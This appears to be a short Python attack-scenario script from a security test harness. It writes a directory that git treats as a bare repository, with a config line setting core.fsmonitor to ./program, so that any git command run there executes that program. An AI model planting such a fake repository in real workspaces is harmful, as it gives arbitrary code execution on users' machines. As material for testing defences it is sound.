# A directory that git takes for a bare repository.
import os

from inside import run


def attack(target):
    for name in ("objects", "refs"):
        os.makedirs(f"{target.work}/new/{name}")
    for name, text in (("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\nfsmonitor = ./program\n")):
        with open(f"{target.work}/new/{name}", "w") as file:
            file.write(text)


run(attack)
